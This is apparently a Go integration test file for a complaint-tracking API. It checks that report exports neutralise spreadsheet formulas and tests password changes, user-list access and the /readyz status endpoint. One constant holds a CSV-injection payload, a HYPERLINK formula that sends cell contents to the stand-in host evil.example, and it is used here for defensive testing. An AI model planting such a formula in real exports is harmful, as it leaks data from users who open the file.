package integration

// The first landings of the security issue (#15), through the real HTTP API:
// CSV injection in the report exports, passwords, /readyz and the user list.

import (
	"bytes"
	"context"
	"encoding/csv"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/cxflow/cxflow/complaint"
	"github.com/cxflow/cxflow/org"
	"github.com/cxflow/cxflow/reports"
	"github.com/cxflow/cxflow/server"
	"github.com/cxflow/cxflow/store"
)

// injectedCause is what an attacker types as a complaint's root cause:
// opened in a spreadsheet, clicking it would send the neighbouring cell to
// evil.example.
const injectedCause = `=HYPERLINK("http://evil.example/"&A1,"点击")`

var injectedOnce sync.Once

// injectedComplaint records, through the API, one complaint received in
// 2013Q3 (no other test's period) whose root cause is injectedCause.
func injectedComplaint(t *testing.T) {
	t.Helper()
	injectedOnce.Do(func() {
		body := intake(3_000)
		body["received_at"] = time.Date(2013, 8, 15, 10, 0, 0, 0, reports.Location).Format(time.RFC3339)
		c := create(t, body)
		step(t, c.ID, "validation", steps[0].body)
		step(t, c.ID, "assignment", steps[1].body)
		got := step(t, c.ID, "root-cause", map[string]any{"cause": injectedCause, "cause_type": "mechanism",
			"responsible_person": "张三", "corrective_action": "更换电容批次"})
		require.Equal(t, complaint.StepPlan, got.Status)
	})
}

// csvRecords parses a report CSV (after its byte-order mark).
func csvRecords(t *testing.T, body []byte) [][]string {
	t.Helper()
	require.True(t, bytes.HasPrefix(body, []byte("\xEF\xBB\xBF")), "UTF-8 with a BOM")
	r := csv.NewReader(bytes.NewReader(body[3:]))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	require.NoError(t, err)
	return recs
}

// A root cause typed as a formula comes out of the quarterly complaint
// analysis CSV with a leading single quote, which spreadsheets read as text;
// negative figures stay numbers.
func TestComplaintAnalysisCSVNeutralisesFormulas(t *testing.T) {
	injectedComplaint(t)
	r := as(t, "market", http.MethodGet, "/api/v1/reports/complaints?quarter=2013Q3&format=csv", nil)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	require.Equal(t, "text/csv; charset=utf-8", r.header.Get("Content-Type"))
	recs := csvRecords(t, r.body)
	require.Contains(t, recs, []string{"1", "'" + injectedCause, "1"}, "the top root causes, neutralised")
	for _, rec := range recs {
		for _, cell := range rec {
			if reports.FormulaLike(cell) {
				require.Regexp(t, `^-[0-9.]+%?$`, cell, "only a negative figure may begin so")
			}
		}
	}

	// The next quarter compares with this one: one complaint fewer, a
	// negative change, which is a figure and keeps its minus sign.
	r = as(t, "market", http.MethodGet, "/api/v1/reports/complaints?quarter=2013Q4&format=csv", nil)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	recs = csvRecords(t, r.body)
	require.Contains(t, recs, []string{"上期", "2013-07-01", "2013-09-30", "投诉总数", "0", "1", "-1", "-100.00%"})
}

// In the workbook the same root cause is a text cell, never a formula, shown
// as typed and marked with Excel's quote prefix.
func TestComplaintAnalysisWorkbookKeepsFormulasText(t *testing.T) {
	injectedComplaint(t)
	r := as(t, "quality", http.MethodGet, "/api/v1/reports/complaints?quarter=2013Q3&format=xlsx", nil)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	f, err := excelize.OpenReader(bytes.NewReader(r.body))
	require.NoError(t, err)
	defer f.Close()
	rows, err := f.GetRows("主要原因")
	require.NoError(t, err)
	require.Equal(t, []string{"1", injectedCause, "1"}, rows[1])
	typ, err := f.GetCellType("主要原因", "B2")
	require.NoError(t, err)
	require.Contains(t, []excelize.CellType{excelize.CellTypeSharedString, excelize.CellTypeInlineString}, typ)
	formula, err := f.GetCellFormula("主要原因", "B2")
	require.NoError(t, err)
	require.Empty(t, formula, "not a formula")
	id, err := f.GetCellStyle("主要原因", "B2")
	require.NoError(t, err)
	_, err = f.GetStyle(id)
	require.NoError(t, err)
	qp := f.Styles.CellXfs.Xf[id].QuotePrefix
	require.True(t, qp != nil && *qp, "the quote prefix keeps it text when edited")
	typ, err = f.GetCellType("主要原因", "C2")
	require.NoError(t, err)
	require.Contains(t, []excelize.CellType{excelize.CellTypeUnset, excelize.CellTypeNumber}, typ, "the count is a number")
}

// A user changes their own password only with the current one; an
// administrator resets someone else's without it; common passwords are
// refused with a 400 naming password.
func TestPasswordChangesThroughTheAPI(t *testing.T) {
	username := "pw-" + uuid.NewString()[:8]
	const first, second, third = "first secret of pw", "second secret of pw", "third secret of pw"
	r := api(t, http.MethodPost, "/api/v1/users", map[string]any{
		"username": username, "name": "改密", "department": "engineering", "roles": []string{"department_member"}, "password": "Password2024!",
	})
	require.Equal(t, http.StatusBadRequest, r.status, "a common password: %s", r.body)
	require.Equal(t, "password", r.field(t, "field"))
	r = api(t, http.MethodPost, "/api/v1/users", map[string]any{
		"username": username, "name": "改密", "department": "engineering", "roles": []string{"department_member"}, "password": first,
	})
	require.Equal(t, http.StatusCreated, r.status, "%s", r.body)
	var u org.User
	r.json(t, &u)
	path := "/api/v1/users/" + u.ID + "/password"

	tok, err := login(stack.api.URL, username, first)
	require.NoError(t, err)
	self := func(body map[string]any) response {
		return call(t, stack.api.URL, http.MethodPut, path, body, "Authorization", "Bearer "+tok)
	}
	r = self(map[string]any{"password": second})
	require.Equal(t, http.StatusBadRequest, r.status, "%s", r.body)
	require.Equal(t, "current_password", r.field(t, "field"))
	r = self(map[string]any{"password": second, "current_password": "a wrong guess"})
	require.Equal(t, http.StatusForbidden, r.status, "%s", r.body)
	require.Equal(t, "current_password", r.field(t, "field"))
	r = self(map[string]any{"password": "qwertyuiop", "current_password": first})
	require.Equal(t, http.StatusBadRequest, r.status, "%s", r.body)
	require.Equal(t, "password", r.field(t, "field"))
	_, err = login(stack.api.URL, username, first)
	require.NoError(t, err, "the refused changes changed nothing")

	r = self(map[string]any{"password": second, "current_password": first})
	require.Equal(t, http.StatusNoContent, r.status, "%s", r.body)
	_, err = login(stack.api.URL, username, first)
	require.Error(t, err, "the old password no longer works")
	_, err = login(stack.api.URL, username, second)
	require.NoError(t, err)

	// The administrator (the test user) resets it without knowing it.
	r = api(t, http.MethodPut, path, map[string]any{"password": third})
	require.Equal(t, http.StatusNoContent, r.status, "%s", r.body)
	_, err = login(stack.api.URL, username, third)
	require.NoError(t, err)
}

// An account stored without a password (an empty password_hash, e.g. one that
// signs in through the identity provider) cannot be signed in to with any
// password: not through the API, not through the console's form.
func TestEmptyPasswordHashSignsNobodyIn(t *testing.T) {
	username := "nopw-" + uuid.NewString()[:8]
	_, err := store.New(stack.pool).CreateUser(context.Background(), org.User{
		ID: uuid.NewString(), Username: username, Name: "无密码管理员", Department: "it", Roles: []org.Role{org.RoleAdministrator},
	}, "")
	require.NoError(t, err)
	// cxflow-timing-equaliser is the password whose hash the server checks
	// instead of a missing one, so that response times do not tell.
	for _, pw := range []string{"cxflow-timing-equaliser", "cxflow-demo", "x"} {
		r := anonymous(t, http.MethodPost, "/api/v1/auth/login", map[string]string{"username": username, "password": pw})
		require.Equal(t, http.StatusUnauthorized, r.status, "%q: %s", pw, r.body)
		_, in := adminSignIn(t, username, pw)
		require.False(t, in, "the console let %q in", pw)
	}
}

// Only administrators and internal auditors (who read the console's
// administration pages) read the user list: roles, disabled flags and who
// changed whom are not for everyone.
func TestUserListOnlyForAdministrators(t *testing.T) {
	for _, user := range []string{"clerk", "market", "quality", "gm", "branch", "engineer", "head", "sales"} {
		r := as(t, user, http.MethodGet, "/api/v1/users", nil)
		require.Equal(t, http.StatusForbidden, r.status, "%s: %s", user, r.body)
		require.NotContains(t, string(r.body), `"roles"`, user)
	}
	for _, user := range []string{"admin", "auditor"} {
		r := as(t, user, http.MethodGet, "/api/v1/users", nil)
		require.Equal(t, http.StatusOK, r.status, "%s", r.body)
		var list struct {
			Items []org.User `json:"items"`
		}
		r.json(t, &list)
		i := slices.IndexFunc(list.Items, func(u org.User) bool { return u.Username == "market" })
		require.GreaterOrEqual(t, i, 0)
		require.Equal(t, []org.Role{org.RoleMarketDepartment}, list.Items[i].Roles, "%s gets the full records", user)
	}
	require.Equal(t, http.StatusUnauthorized, anonymous(t, http.MethodGet, "/api/v1/users", nil).status)
}

// /readyz answers anonymous callers ready or not ready and nothing more; what
// failed is in the server log.
func TestReadyzAnswersOnlyItsStatus(t *testing.T) {
	r := anonymous(t, http.MethodGet, "/readyz", nil)
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	require.JSONEq(t, `{"status":"ready"}`, string(r.body))

	// An API whose database does not answer.
	pool, err := pgxpool.New(context.Background(), "postgres://cxflow_owner:hunter2@127.0.0.1:1/cxflow?connect_timeout=2")
	require.NoError(t, err)
	defer pool.Close()
	var logged bytes.Buffer
	var mu sync.Mutex
	log := slog.New(slog.NewTextHandler(&lockedWriter{mu: &mu, w: &logged}, nil))
	down := httptest.NewServer(server.New(stack.client, store.New(pool), taskQueue, log).WithSecurity(server.SecurityFrom(stack.cfg)).Handler())
	defer down.Close()
	r = call(t, down.URL, http.MethodGet, "/readyz", nil, "Authorization", "")
	require.Equal(t, http.StatusServiceUnavailable, r.status, "%s", r.body)
	require.JSONEq(t, `{"status":"not ready"}`, string(r.body))
	for _, detail := range []string{"127.0.0.1", "cxflow_owner", "dial", "refused", "postgres"} {
		require.NotContains(t, string(r.body), detail)
	}
	mu.Lock()
	defer mu.Unlock()
	require.Contains(t, logged.String(), "not ready: PostgreSQL did not answer")
	require.Contains(t, logged.String(), "127.0.0.1", "the driver's error is in the log")
}

// lockedWriter lets the server's goroutines log into one buffer.
type lockedWriter struct {
	mu *sync.Mutex
	w  *bytes.Buffer
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}
